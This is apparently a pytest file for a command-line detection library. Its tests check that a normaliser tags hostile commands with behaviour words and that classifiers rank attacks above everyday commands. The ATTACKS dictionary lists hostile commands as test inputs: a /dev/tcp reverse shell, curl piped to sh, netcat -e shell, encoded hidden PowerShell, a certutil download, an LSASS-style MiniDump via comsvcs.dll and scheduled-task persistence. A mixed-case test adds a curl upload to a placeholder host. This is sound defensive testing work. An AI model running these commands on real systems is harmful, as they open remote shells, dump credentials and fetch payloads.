"""The command-line task's view (`tasks/cmdline.py`): behaviour words for what a command does, documentation
placeholders and volatile parts removed, and what that buys on command lines written by hand."""

from __future__ import annotations

import numpy as np
import pytest

from dataclasses import replace

from smallworld.tasks import cmdline, load_task


def view_task():
    """The cmdlines task with the command-line view (the built-in default: normaliser = \"cmdline\")."""
    return replace(load_task("cmdlines"), normaliser="cmdline")

ATTACKS = {
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": {"swfdevtcp", "swfprogbash"},
    "curl http://203.0.113.5/x.sh | sh": {"swfdownload", "swfpipeinterp", "swfurlip", "swfurlexec"},
    "nc -e /bin/sh 198.51.100.7 9001": {"swfsocket", "swfshell", "swfippublic"},
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA":
        {"swfencoded", "swfhidden", "swfprogpowershell", "swfbase64blob"},
    "certutil -urlcache -split -f http://194.180.48.19/a.exe C:\\Users\\Public\\a.exe":
        {"swfprogcertutil", "swfdownload", "swfpathpublic", "swfurlexec"},
    '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full':
        {"swfprogrundll32", "swfcredstore", "swfpathsystem"},
    "schtasks /create /tn Upd /tr C:\\Users\\Public\\u.exe /sc onlogon": {"swfpersist", "swfprogschtasks"},
    "sudo find . -exec /bin/sh \\; -quit": {"swfshell", "swfprogfind"},
}


@pytest.mark.parametrize("text", list(ATTACKS))
def test_attacks_get_the_words_for_what_they_do(text):
    words = set(cmdline.behaviour(text))
    assert ATTACKS[text] <= words, (text, words)


def test_behaviour_patterns_spell_only_lowercase_letters_as_they_match_the_lowercased_line():
    """The patterns run without re.I on ``line.lower()``: an uppercase letter in one would never match."""
    import re

    for name, rx in cmdline._PATTERNS + cmdline._PATH_CLASSES:
        assert not rx.flags & re.I, name
        literal = re.sub(r"\[[^\]]*\]", "", re.sub(r"\\.", "", rx.pattern))  # escapes and classes aside
        assert literal == literal.lower(), name
    # mixed case still gets its words, as under re.I
    assert {"swfdownload", "swfencoded", "swfhidden", "swfpathtemp", "swfexfil"} <= set(cmdline.behaviour(
        'PowerShell -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA= ; Invoke-WebRequest x -OutFile '
        'C:\\Users\\Bob\\AppData\\Local\\Temp\\a.exe; curl -F f=@a https://x.test/u'))


def test_everyday_commands_get_only_their_program():
    for text, prog in (("ls -la /tmp", "ls"), ("git log --oneline -20", "git"), ("kubectl get pods -n web", "kubectl"),
                       ('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer', "chrome")):
        words = cmdline.behaviour(text)
        assert f"swfprog{prog}" in words
        assert not [w for w in words if w in {"swfdevtcp", "swfsocket", "swfencoded", "swfdownload", "swfshell",
                                               "swfpipeinterp", "swfcredstore", "swfpersist"}], (text, words)


def test_programs_are_basenames_case_folded_without_exe_across_segments():
    assert cmdline._programs(cmdline.clean('"C:\\Windows\\System32\\CertUtil.EXE" -f x && Start-Process a.exe')) == \
        ["certutil", "startprocess"]
    assert cmdline._programs("a && b; c | d") == ["a", "b", "c", "d"]
    assert cmdline._programs("sudo -u root env A=1 /usr/bin/id") == ["id"]


def test_documentation_placeholders_never_reach_the_student():
    task = view_task()
    tldr, gtfo = task.normalise("zless path/to/file"), task.normalise("zless /path/to/input-file")
    assert tldr == gtfo  # the two corpora's conventions, opposite labels, one view
    for text in ("git add [-p|--patch] path/to/file", "mycli {{name}} <file>", "rundll32 {PATH_ABSOLUTE},Start",
                 "curl https://example.com/x", "curl http://attacker.com/x"):
        v = task.normalise(text)
        assert not any(s in v for s in ("path/to", "[-", "{{", "<file>", "{PATH", "example.com", "attacker")), v
    assert "$" not in task.normalise("Remove-Item $env:TEMP\\x; echo ${HOME} $(pwd)")


def test_volatile_parts_are_normalised_before_hashing_and_prompting():
    task = view_task()
    a = 'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5} C:\\Users\\alice\\x 10.1.2.3'
    b = 'C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683} C:\\Users\\bob\\x 10.9.8.7'
    assert task.normalise(a) == task.normalise(b) and task.prompt_view(a) == task.prompt_view(b)
    assert "<guid>" in task.prompt_view(a) and "<user>" in task.prompt_view(a) and "<ip>" in task.prompt_view(a)
    # the teacher reads the cleaned command, not the student's feature words
    assert "swf" not in task.prompt_view(a) and "swfprogdllhost" in task.normalise(a)


def test_hostile_items_do_not_break_the_view():
    for text in ("\x00" * 10, "a" * 200_000, "\udcff bad surrogate", "|||;;;&&&", "\"unterminated", ""):
        v = cmdline.cmdline_view(text)
        assert isinstance(v, str)


@pytest.mark.slow
def test_the_view_beats_raw_text_on_hand_written_command_lines(data_dir):
    """A 500-row seed student judged on the hand-written set (bench/handwritten/cmdlines.jsonl, never trained on):
    the task's view must rank attacks above everyday commands better than the raw text does."""
    from pathlib import Path

    from smallworld import data as D
    from smallworld import evaluate as E
    from smallworld.pipeline import onehot, stratified_sample
    from smallworld.student.linear import LinearStudent

    task = view_task()
    train = D.read_rows(data_dir / "cmdlines" / "train.jsonl.gz")
    hand = D.read_rows(Path(__file__).resolve().parents[1] / "bench" / "handwritten" / "cmdlines.jsonl")
    y = np.array([r["label"] == "malicious" for r in hand])
    aucs = {}
    for name, t in (("raw", replace(task, normaliser="none")), ("view", task)):
        a = []
        for s in (0, 1):
            seed = stratified_sample(train, 500, s)
            m = LinearStudent(t.labels, dict(t.features)).fit([t.normalise(r["text"]) for r in seed],
                                                              onehot(t, [r["label"] for r in seed]))
            a.append(E.binary_metrics(y, m.predict_proba([t.normalise(r["text"]) for r in hand])[:, 0])["roc_auc"])
        aucs[name] = float(np.mean(a))
    assert aucs["view"] >= aucs["raw"] + 0.03, aucs


def test_the_first_programs_folder_is_dropped_as_endpoints_and_documentation_write_it_differently():
    v = cmdline.cmdline_view
    assert v(r'"C:\Windows\system32\rundll32.exe" shell32.dll,Control_RunDLL desk.cpl').startswith(
        "rundll32 shell32.dll,Control_RunDLL desk.cpl ## swfprogrundll32 swfpathsystem")
    assert v(r"C:\Program Files\Google\Chrome\Application\chrome.exe --type=renderer").startswith("chrome --type")
    assert v("/usr/bin/bash -c id") == "bash -c id ## swfprogbash swfpathsystem"
    assert v(r"C:\Users\bob\AppData\Local\Temp\a.exe /s") == "a /s ## swfproga swfpathtemp swfpathappdata"
    assert v("ls -la /tmp").startswith("ls -la /tmp ##") and v('"" x').startswith(" x ##")
    # only the first program's folder: arguments keep theirs
    assert r"C:\Windows\Temp\p.ps1" in v(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -File C:\Windows\Temp\p.ps1")


def test_dropping_the_folder_carries_a_seed_student_to_endpoint_shaped_lines(data_dir):
    """Seed-only students judged on bench/handwritten/endpoint.jsonl (never trained on): the view that drops the
    first program's folder must beat the same view keeping it (measured 0.71-0.76 against 0.61-0.64)."""
    from pathlib import Path

    from smallworld import data as D
    from smallworld import evaluate as E
    from smallworld.pipeline import onehot, stratified_sample
    from smallworld.student.linear import LinearStudent

    task = view_task()
    train = D.read_rows(data_dir / "cmdlines" / "train.jsonl.gz")
    hand = D.read_rows(Path(__file__).resolve().parents[1] / "bench" / "handwritten" / "endpoint.jsonl")
    y = np.array([r["label"] == "malicious" for r in hand])

    def keep_folder(t):
        return cmdline._STUDENT_DROP.sub("", cmdline.clean(t)) + " ## " + " ".join(cmdline.behaviour(t))

    aucs = {}
    for name, view in (("keep", keep_folder), ("drop", cmdline.cmdline_view)):
        a = []
        for s in (0, 1):
            seed = stratified_sample(train, 500, s)
            m = LinearStudent(task.labels, dict(task.features)).fit([view(r["text"]) for r in seed],
                                                                    onehot(task, [r["label"] for r in seed]))
            a.append(E.binary_metrics(y, m.predict_proba([view(r["text"]) for r in hand])[:, 0])["roc_auc"])
        aucs[name] = float(np.mean(a))
    assert aucs["drop"] >= aucs["keep"] + 0.04, aucs


def test_a_model_trained_on_an_older_view_is_refused_not_scored_on_other_features(tmp_path):
    import json
    from pathlib import Path

    import smallworld
    from smallworld.errors import ModelFileError, SmallworldError
    from smallworld.tasks import Task

    d = load_task("cmdlines").to_dict()
    assert d["view_version"] == {"cmdline": 2} and Task.from_dict(d) == load_task("cmdlines")
    with pytest.raises(SmallworldError, match="version 1 of the 'cmdline' view.*retrain"):
        Task.from_dict({**d, "view_version": {"cmdline": 1}})
    assert Task.from_dict({**d, "normaliser": "none"}).normaliser == "none"  # another view's entry is not checked
    smallworld.train(task="cmdlines", labelled=str(Path(__file__).resolve().parents[1] / "smallworld/examples/cmdlines_seed.jsonl"), teacher=None,
                     out=str(tmp_path / "m"), progress=False)
    assert len(smallworld.load(tmp_path / "m").predict(["ls -la"])) == 1
    mj = tmp_path / "m" / "model.json"
    h = json.loads(mj.read_text())
    del h["task"]["view_version"]  # a model.json from before views were versioned
    mj.write_text(json.dumps(h))
    with pytest.raises(ModelFileError, match="retrain"):
        smallworld.load(tmp_path / "m")
